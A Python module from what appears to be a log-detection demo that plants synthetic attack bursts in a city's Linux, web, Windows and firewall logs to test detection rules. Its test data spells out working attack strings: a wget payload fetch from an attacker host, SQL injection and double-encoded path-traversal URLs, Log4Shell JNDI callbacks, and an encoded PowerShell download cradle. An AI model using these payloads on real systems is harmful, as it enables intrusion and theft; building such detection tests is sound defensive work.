"""Planted attacks: short bursts of what an intruder leaves in the city's logs.

Each :class:`Scenario` names the rule file stems (``rules/**/<stem>.yml``) that must catch it
(``rules``: at least one of them must alert) and those its lines rightly fire as well
(``also``). A burst is a few lines spread over a couple of seconds.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime, timedelta

from canhgac.cli.demo import edge_lines, linux_lines, windows_lines
from canhgac.cli.demo.catalog import (
    DOMAIN_CONTROLLER,
    LEGACY_HOST,
    LINUX_HOSTS,
    attacker_ip,
    pid,
    port,
)
from canhgac.cli.demo.formats import SEVERITY_WARNING
from canhgac.cli.demo.model import BurstLine, LogLine


@dataclass(slots=True)
class Burst:
    """The lines of one attack being written; a line at ``delay_s`` is stamped ``at(delay_s)``."""

    key: str
    rng: random.Random
    start: datetime
    lines: list[BurstLine] = field(default_factory=list)

    def at(self, delay_s: float) -> datetime:
        return self.start + timedelta(seconds=delay_s)

    def add(self, delay_s: float, line: LogLine) -> None:
        self.lines.append(BurstLine(delay_s, line))


@dataclass(frozen=True, slots=True)
class Scenario:
    key: str
    title: str
    rules: tuple[str, ...]
    write: Callable[[Burst], None]
    also: tuple[str, ...] = ()

    def build(self, rng: random.Random, start: datetime) -> list[BurstLine]:
        burst = Burst(self.key, rng, start)
        self.write(burst)
        return burst.lines


HOSTS = {host.name: host for host in LINUX_HOSTS}
_GUESSED_USERS = ("admin", "oracle", "test", "ubuntu", "postgres", "guest", "support", "pi")
_FIREFOX_LINUX = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"


# --- Linux servers -------------------------------------------------------------------------------
def ssh_brute_force(burst: Burst) -> None:
    host, rng = HOSTS["congdan-web01"], burst.rng
    source = attacker_ip(rng)
    for index, user in enumerate(rng.sample(_GUESSED_USERS, 6)):
        delay, src_port = index * 0.4, port(rng)
        invalid = f"Invalid user {user} from {source} port {src_port}"
        failed = f"Failed password for invalid user {user} from {source} port {src_port} ssh2"
        line = linux_lines.sshd(
            host, burst.at(delay), rng, invalid, severity=SEVERITY_WARNING, attack=burst.key
        )
        burst.add(delay, line)
        burst.add(
            delay + 0.2,
            linux_lines.sshd(host, burst.at(delay + 0.2), rng, failed, attack=burst.key),
        )


def ssh_root_login(burst: Burst) -> None:
    host, rng = HOSTS["ecab-db01"], burst.rng
    accepted = linux_lines.accepted("root", "password", attacker_ip(rng), port(rng))
    burst.add(0.0, linux_lines.sshd(host, burst.at(0.0), rng, accepted, attack=burst.key))
    opened = linux_lines.pam_session(
        host, burst.at(0.1), rng, "sshd", "sshd", "root", attack=burst.key
    )
    burst.add(0.1, opened)


def sudo_shell(burst: Burst) -> None:
    line = linux_lines.sudo(
        HOSTS["ecab-app01"], burst.at(0.0), "tran.thi.binh", "/bin/bash", "pts/1", burst.key
    )
    burst.add(0.0, line)


def su_root_legacy(burst: Burst) -> None:
    """A clerk's account guessing root's password on the RHEL 4 archive server."""
    for index in range(3):
        line = linux_lines.su_failure(
            LEGACY_HOST, burst.at(index * 0.5), burst.rng, "nhanvien.luutru", 503, burst.key
        )
        burst.add(index * 0.5, line)


def user_created(burst: Burst) -> None:
    host, proc = HOSTS["thue-app01"], pid(burst.rng)
    for message in (
        "new group: name=hotro, GID=1007",
        "new user: name=hotro, UID=1007, GID=1007, home=/home/hotro, shell=/bin/bash, "
        "from=/dev/pts/2",
    ):
        burst.add(
            0.0, linux_lines.account(host, burst.at(0.0), proc, "useradd", message, burst.key)
        )


def exec_from_tmp(burst: Burst) -> None:
    host, rng = HOSTS["congdan-web02"], burst.rng
    serial, payload = rng.randint(100_000, 999_999), "/tmp/.X11-unix/.kworker"
    uploads = "/var/www/congdan/uploads"
    # www-data (uid 33) fetches a binary from the portal's upload directory (a web shell), then
    # runs it: the portal's PHP was exploited. Each is one audit event of several records,
    # which the collector joins (exe from SYSCALL, arguments from EXECVE, cwd from CWD).
    fetch = linux_lines.audit_syscall(rng, exe="/usr/bin/wget", comm="wget", uid=33, auid=None)
    url = f"http://{attacker_ip(rng)}/k"
    records = [
        ("SYSCALL", fetch),
        ("EXECVE", linux_lines.audit_execve("wget", "-q", "-O", payload, url)),
        ("CWD", f'cwd="{uploads}"'),
    ]
    for record_type, body in records:
        line = linux_lines.audit(host, burst.at(0.0), serial, record_type, body, burst.key)
        burst.add(0.0, line)
    syscall = linux_lines.audit_syscall(rng, exe=payload, comm=".kworker", uid=33, auid=None)
    execve = linux_lines.audit_execve(payload, "-c", "/tmp/.X11-unix/.k.conf")
    for record_type, body in (
        ("SYSCALL", syscall),
        ("EXECVE", execve),
        ("CWD", f'cwd="{uploads}"'),
    ):
        line = linux_lines.audit(host, burst.at(1.0), serial + 1, record_type, body, burst.key)
        burst.add(1.0, line)


# --- the citizen portal --------------------------------------------------------------------------
def _requests(
    burst: Burst, agent: str, requests: list[tuple[str, int]], source: str | None = None
) -> None:
    """GET requests from one attacker, 0.3 s apart, after the burst's lines so far."""
    source = source or attacker_ip(burst.rng)
    first = len(burst.lines)
    for index, (target, status) in enumerate(requests):
        delay = (first + index) * 0.3
        size = burst.rng.randint(150, 600)
        line = edge_lines.access(
            burst.at(delay), source, "GET", target, status, size, agent, attack=burst.key
        )
        burst.add(delay, line)


def sql_injection(burst: Burst) -> None:
    _requests(
        burst,
        _FIREFOX_LINUX,
        [
            # ' UnIoN SeLeCt ... (URL-encoded, mixed case)
            (
                "/tra-cuu/ho-so?ma_ho_so=H26.1%27%20UnIoN%20SeLeCt%20ten_dang_nhap,mat_khau"
                "%20FROM%20nguoi_dung--%20-",
                500,
            ),
            # double-encoded tautology: %2527 -> %27 -> '
            ("/tra-cuu/ho-so?ma_ho_so=1%2527%2520oR%25201%253D1--", 200),
            # time-based, "+" for spaces
            ("/tim-kiem?q=abc%27+AnD+SlEeP(5)--+-", 200),
            (
                "/dich-vu-cong/nop-ho-so?ma_thu_tuc=1.004227%27%20AND%20ExtractValue(1,"
                "CONCAT(0x7e,@@version))--%20-",
                500,
            ),
        ],
    )


def path_traversal(burst: Burst) -> None:
    _requests(
        burst,
        "curl/8.4.0",
        [
            # double-encoded ../ : %252e%252e%252f -> %2e%2e%2f -> ../
            (
                "/tai-lieu/tai-ve?file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
                400,
            ),
            ("/static/%252e%252e%252f%252e%252e%252fetc%252fshadow", 404),
            ("/tai-lieu/tai-ve?file=..%255c..%255c..%255cwindows%255cwin.ini", 404),
        ],
    )


def scanner_user_agent(burst: Burst) -> None:
    # sqlmap's first, still harmless, requests, then Nikto's probing of common paths.
    sqlmap = "sqlmap/1.7.2#stable (https://sqlmap.org)"
    _requests(
        burst, sqlmap, [("/tra-cuu/ho-so?ma_ho_so=1", 200), ("/tra-cuu/ho-so?ma_ho_so=2", 200)]
    )
    nikto = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000512)"
    _requests(burst, nikto, [("/cgi-bin/test-cgi", 404), ("/server-status", 403)])


def log4shell(burst: Burst) -> None:
    source, callback = attacker_ip(burst.rng), f"{attacker_ip(burst.rng)}:1389"
    # In the User-Agent, plain and obfuscated, then URL-encoded in the query.
    plain = f"${{jndi:ldap://{callback}/Basic/Command/Base64/aWQ=}}"
    obfuscated = f"${{${{lower:j}}ndi:${{lower:r}}mi://{callback}/a}}"
    encoded = f"/?q=%24%7Bjndi%3Aldap%3A%2F%2F{callback.replace(':', '%3A')}%2Fx%7D"
    _requests(burst, plain, [("/", 200)], source)
    _requests(burst, obfuscated, [("/tra-cuu/ho-so", 200)], source)
    _requests(burst, _FIREFOX_LINUX, [(encoded, 200)], source)


# --- e-cabinet Windows hosts ---------------------------------------------------------------------
def security_log_cleared(burst: Burst) -> None:
    line = windows_lines.log_cleared(
        burst.rng, burst.at(0.0), DOMAIN_CONTROLLER, "dangquochuy", burst.key
    )
    burst.add(0.0, line)


def admin_group_member_added(burst: Burst) -> None:
    # A Vietnamese-language Windows names BUILTIN\Administrators "Quản trị viên".
    for delay, computer, group in (
        (0.0, "ECAB-PC-07", "Quản trị viên"),
        (0.5, DOMAIN_CONTROLLER, "Administrators"),
    ):
        line = windows_lines.member_added(
            burst.rng,
            burst.at(delay),
            computer,
            "phamthidung",
            "hotro.it",
            "Hỗ trợ CNTT",
            group,
            burst.key,
        )
        burst.add(delay, line)


_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_WORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"


def encoded_powershell(burst: Burst) -> None:
    # A macro in a lure document ("Giấy mời họp.docm") starts a download cradle.
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{attacker_ip(burst.rng)}/a')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode("ascii")
    command = f"powershell.exe -NoP -NonI -W Hidden -enc {encoded}"
    line = windows_lines.process_created(
        burst.rng,
        burst.at(0.0),
        "ECAB-PC-03",
        "nguyenvanan",
        _POWERSHELL,
        command,
        _WORD,
        burst.key,
    )
    burst.add(0.0, line)


# --- FortiGate -----------------------------------------------------------------------------------
def inbound_rdp(burst: Burst) -> None:
    source = attacker_ip(burst.rng)
    for delay, action in ((0.0, "accept"), (1.5, "close")):
        line = edge_lines.traffic(
            burst.rng,
            burst.at(delay),
            source=(source, edge_lines.WAN),
            destination=("10.20.2.41", edge_lines.LAN),
            dstport=3389,
            action=action,
            policy=(31, "VIP-RDP-tam-thoi"),
            attack=burst.key,
        )
        burst.add(delay, line)


SCENARIOS: tuple[Scenario, ...] = (
    Scenario(
        "ssh_brute_force",
        "SSH brute force with guessed user names from the Internet",
        ("lnx_sshd_invalid_user",),
        ssh_brute_force,
        also=("lnx_sshd_failed_password",),
    ),
    Scenario(
        "ssh_root_login",
        "SSH login as root accepted from an external address",
        ("lnx_sshd_root_login_accepted",),
        ssh_root_login,
    ),
    Scenario(
        "sudo_shell", "sudo to an interactive root shell", ("lnx_sudo_root_shell",), sudo_shell
    ),
    Scenario(
        "su_root_legacy",
        "su to root refused on the RHEL 4 archive server (old PAM log form)",
        ("lnx_su_root_failed",),
        su_root_legacy,
    ),
    Scenario(
        "user_created",
        "Local user created on a server (useradd)",
        ("lnx_user_created",),
        user_created,
        also=("lnx_group_created",),
    ),
    Scenario(
        "exec_from_tmp",
        "auditd: www-data downloads a program from the web root and runs it from /tmp",
        ("lnx_auditd_exec_from_temp_dir", "lnx_proc_shell_or_downloader_in_web_root"),
        exec_from_tmp,
    ),
    Scenario(
        "sql_injection",
        "SQL injection against the citizen portal (encoded, mixed case)",
        ("web_sql_injection",),
        sql_injection,
    ),
    Scenario(
        "path_traversal", "Path traversal, double-encoded", ("web_path_traversal",), path_traversal
    ),
    Scenario(
        "scanner_user_agent",
        "Scanner user agents (sqlmap, Nikto)",
        ("web_scanner_user_agent",),
        scanner_user_agent,
    ),
    Scenario(
        "log4shell", "Log4Shell JNDI probe (CVE-2021-44228)", ("web_log4shell_jndi",), log4shell
    ),
    Scenario(
        "security_log_cleared",
        "Windows Security log cleared (1102)",
        ("win_security_log_cleared",),
        security_log_cleared,
    ),
    Scenario(
        "admin_group_member_added",
        'Member added to Administrators / "Quản trị viên" (4732)',
        ("win_security_privileged_group_member_added",),
        admin_group_member_added,
    ),
    Scenario(
        "encoded_powershell",
        "Encoded PowerShell started by Word (4688 -enc)",
        ("win_proc_encoded_powershell",),
        encoded_powershell,
    ),
    Scenario(
        "inbound_rdp",
        "FortiGate allowed inbound RDP (3389) from the Internet",
        ("fgt_inbound_admin_port_from_outside",),
        inbound_rdp,
    ),
)

ATTACKS: dict[str, Scenario] = {scenario.key: scenario for scenario in SCENARIOS}
